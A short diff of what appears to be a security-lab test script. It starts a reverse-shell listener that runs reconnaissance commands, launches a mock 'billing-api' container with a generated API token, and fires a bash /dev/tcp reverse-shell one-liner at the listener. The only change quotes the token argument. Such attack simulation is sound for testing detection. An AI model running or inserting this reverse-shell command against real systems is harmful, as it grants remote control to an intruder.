@@ -18,7 +18,7 @@ lab_peer rev-listener perl "$PEERS/shell_peer.pl" --listen "$REV" --summary "$WO
     --cmds 'id|hostname|uname -r|echo $$ $PPID'
 lab_wait "reverse-shell listener on $REV" 10 lab_listening ${REV%:*} ${REV#*:}
 
-lab_run --env APP_ENV=prod --env API_TOKEN=tok-$(od -An -N6 -tx1 /dev/urandom | tr -d ' \n') \
+lab_run --env APP_ENV=prod --env "API_TOKEN=tok-$(od -An -N6 -tx1 /dev/urandom | tr -d ' \n')" \
     --hostname billing-api -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
 
 lab_exec_bg "bash -c 'bash -i >& /dev/tcp/${REV%:*}/${REV#*:} 0>&1'"
